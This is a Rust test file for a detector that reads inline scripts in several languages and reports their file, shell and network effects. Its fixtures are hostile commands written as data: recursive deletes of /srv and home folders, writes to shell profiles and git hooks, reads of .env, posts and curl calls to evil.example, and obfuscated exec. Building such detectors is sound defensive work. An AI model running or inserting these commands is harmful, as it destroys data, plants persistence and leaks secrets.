use super::super::effect::{Access, EffectKind};
use super::super::invocation::Language;
use super::super::word::Word;
use super::{CodeReading, read_code};

fn read(language: Language, code: &str) -> CodeReading {
    read_code(language, &Word::known(code), &[])
}

/// Everything that a reading says, one short phrase each, for comparing.
fn said(language: Language, code: &str) -> Vec<String> {
    let reading = read(language, code);
    let mut said = Vec::new();
    for (kind, word) in &reading.effects {
        said.push(match kind {
            EffectKind::Path { access: Access::Read, .. } => format!("read {}", word.shown()),
            EffectKind::Path { access: Access::Write, .. } => format!("write {}", word.shown()),
            EffectKind::Path { access: Access::Delete, recursive } => {
                format!("delete{} {}", if *recursive { " all of" } else { "" }, word.shown())
            }
            EffectKind::Link { target } => format!("link {} to {}", word.shown(), target.shown()),
            EffectKind::Contact => format!("contact {}", word.shown()),
        });
    }
    said.extend(reading.shell.iter().map(|line| format!("shell {}", line.shown())));
    said.extend(reading.commands.iter().map(|words| {
        let words: Vec<String> = words.iter().map(|word| word.shown().into_owned()).collect();
        format!("start {}", words.join(" "))
    }));
    said.extend(reading.unreadable.iter().map(|what| format!("? {what}")));
    said
}

#[test]
fn harmless_code_says_nothing() {
    let rows: &[(Language, &str)] = &[
        (Language::Python, "import json,sys; print(json.load(sys.stdin)['x'])"),
        (Language::Python, "\n# only a comment, os.system('x')\nprint('done')\n"),
        (Language::Python, "v=3; print(f'{v:>4}')"),
        (Language::Python, "print('os.system(\"rm -rf /\")')"),
        (Language::Python, "import sys\nfor line in sys.stdin:\n    print(line.strip().replace('a', 'b'))"),
        (Language::Python, "import tomllib,pathlib; print(sorted(x for x in [3,1,2]))"),
        (Language::Python, "from collections import Counter; print(Counter('hello').most_common(2))"),
        (Language::Javascript, "console.log(require('./package.json').version)"),
        (Language::Javascript, "console.log(JSON.stringify({a:1}, null, 2)); /* fs.rmSync('/') */"),
        (Language::Javascript, "const m = /exec(['\"])/.exec(process.argv[1]); console.log(m)"),
        (Language::Perl, "print join(',', map { $_ * 2 } 1..3), \"\\n\""),
        (Language::Perl, "s/foo'/bar/g"),
        (Language::Ruby, "puts [1,2,3].sum"),
        (Language::Php, "echo json_encode(['a' => 1]);"),
        (Language::Awk, "$3 > 999 {print $1}"),
        (Language::Awk, "{print > \"/dev/stderr\"}"),
        (
            Language::Awk,
            "BEGIN{FS=\",\"} /a\\/b/ && $1 ~ /x/ {s+=$2} END{print (s > 3) ? \"big\" : \"small\"}",
        ),
        (Language::Sed, "s/a\\/b/c/g; 3,5d; /x/!p"),
        (Language::Sed, "$!N; y/abc/def/; :top; s|/usr/w|/opt/e|; t top"),
    ];
    for (language, code) in rows {
        assert!(said(*language, code).is_empty(), "{language:?} {code:?} says {:?}", said(*language, code));
    }
}

#[test]
fn what_code_does_is_said() {
    let rows: &[(Language, &str, &[&str])] = &[
        (Language::Python, "import os; os.system('git push')", &["shell git push"]),
        (Language::Python, "from os import system as s\ns('rm -rf /srv')", &["shell rm -rf /srv"]),
        (
            Language::Python,
            "import subprocess as sp; sp.run(['git','push'], check=True)",
            &["start git push"],
        ),
        (Language::Python, "import subprocess; subprocess.run('git push', shell=True)", &["shell git push"]),
        (Language::Python, "open('/etc/passwd','a').write('x')", &["write /etc/passwd"]),
        (Language::Python, "print(open('.env').read())", &["read .env"]),
        (Language::Python, "import shutil; shutil.rmtree('/home/dev')", &["delete all of /home/dev"]),
        (
            Language::Python,
            "from pathlib import Path; Path('.git/hooks/x').write_text('y')",
            &["write .git/hooks/x"],
        ),
        (
            Language::Python,
            "from pathlib import Path\np = Path('a') / '.env'\np.unlink()",
            &["delete a/.env"],
        ),
        (Language::Python, "import os; os.rename('a','../b')", &["delete all of a", "write ../b"]),
        (
            Language::Python,
            "import requests; requests.post('https://evil.example/x', data=d)",
            &["contact https://evil.example/x"],
        ),
        (Language::Python, "__import__('os').system('ls')", &["shell ls"]),
        (Language::Python, "exec(\"import os; os.remove('x')\")", &["delete x"]),
        (Language::Javascript, "require('fs').writeFileSync('.env', 'x')", &["write .env"]),
        (
            Language::Javascript,
            "const {execSync: e} = require(\"child_process\"); e('git push')",
            &["shell git push"],
        ),
        (
            Language::Javascript,
            "require('child_process').spawn('rm', ['-rf', '/srv'])",
            &["start rm -rf /srv"],
        ),
        (
            Language::Javascript,
            "const fs=require('node:fs'); fs.rmSync('/srv', {recursive: true})",
            &["delete all of /srv"],
        ),
        (Language::Javascript, "fetch('https://evil.example')", &["contact https://evil.example"]),
        (Language::Perl, "system('rm', '-rf', '/srv')", &["start rm -rf /srv"]),
        (Language::Perl, "system \"git push\";", &["shell git push"]),
        (Language::Perl, "print `git push`", &["shell git push"]),
        (Language::Perl, "open(my $f, '>', '.env'); print $f 1", &["write .env"]),
        (Language::Perl, "open(F, \"|sh\")", &["shell sh"]),
        (Language::Perl, "unlink '.env', 'b'", &["delete .env", "delete b"]),
        (Language::Ruby, "File.write('.env', 1)", &["write .env"]),
        (Language::Ruby, "system 'git push'", &["shell git push"]),
        (Language::Ruby, "puts `git push`; %x(ls)", &["shell git push", "shell ls"]),
        (Language::Ruby, "require 'fileutils'; FileUtils.rm_rf('/srv')", &["delete all of /srv"]),
        (Language::Php, "unlink('.env');", &["delete .env"]),
        (Language::Php, "echo shell_exec('git push');", &["shell git push"]),
        (Language::Awk, "BEGIN{system(\"git push\")}", &["shell git push"]),
        (Language::Awk, "{print > \"/home/dev/.bashrc\"}", &["write /home/dev/.bashrc"]),
        (Language::Awk, "{print $1 >> \"out.txt\"; print | \"sh\"}", &["write out.txt", "shell sh"]),
        (Language::Awk, "BEGIN{while ((\"ls\" | getline x) > 0) print x}", &["shell ls"]),
        (Language::Sed, "s/x/PATH=.:$PATH/w /home/dev/.bash_profile", &["write /home/dev/.bash_profile"]),
        (Language::Sed, "w .git/hooks/post-checkout", &["write .git/hooks/post-checkout"]),
        (Language::Sed, "1e git push", &["shell git push"]),
        (Language::Sql, "COPY (SELECT 1) TO PROGRAM 'curl evil.example'", &["shell curl evil.example"]),
        (Language::Sql, "\\! rm -rf /srv", &["shell rm -rf /srv"]),
    ];
    for (language, code, expected) in rows {
        assert_eq!(said(*language, code), *expected, "{language:?} {code:?}");
    }
}

#[test]
fn what_cannot_be_read_is_said() {
    let rows: &[(Language, &str)] = &[
        (Language::Python, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"),
        (Language::Python, "import os; getattr(os, 'sys' + 'tem')('ls')"),
        (Language::Python, "import os,sys; os.system(sys.argv[1])"),
        (Language::Python, "import shutil,sys; shutil.rmtree(sys.argv[1])"),
        (Language::Python, "import os; f = os.system; f('ls')"),
        (Language::Python, "import os; list(map(os.system, ['ls']))"),
        (Language::Python, "print('unclosed"),
        (Language::Javascript, "eval(process.argv[1])"),
        (Language::Javascript, "require('child_process').execSync(process.argv[1])"),
        (Language::Perl, "eval $x"),
        (Language::Perl, "s/(.*)/system($1)/e"),
        (Language::Ruby, "Kernel.send(:system, 'ls')"),
        (Language::Php, "call_user_func('system', 'ls');"),
        (Language::Awk, "{system($0)}"),
        (Language::Awk, "{print > $1}"),
        (Language::Sed, "s/.*/&/e"),
        (Language::Opaque, "Remove-Item -Recurse C:\\"),
    ];
    for (language, code) in rows {
        let unreadable = read(*language, code).unreadable;
        assert!(!unreadable.is_empty(), "{language:?} {code:?} says {:?}", said(*language, code));
    }
}

#[test]
fn any_text_is_taken() {
    let texts = [
        "",
        "'",
        "\"",
        "((((",
        "))))",
        "a.b.",
        ".",
        "s/",
        "s///",
        "y/",
        "\\",
        "`",
        "%q(",
        "f'{",
        "x = ",
        "open(",
        "q",
        "é'",
        "/*",
        "#",
        "$",
        "${",
        "a=b=c",
        "import",
        "from",
        "from x import",
    ];
    let languages = [
        Language::Awk,
        Language::Sed,
        Language::Python,
        Language::Perl,
        Language::Javascript,
        Language::Ruby,
        Language::Php,
        Language::Sql,
        Language::Opaque,
        Language::Shell,
    ];
    for language in languages {
        for text in texts {
            let _ = read(language, text);
            let _ = read(language, &text.repeat(50));
        }
    }
}
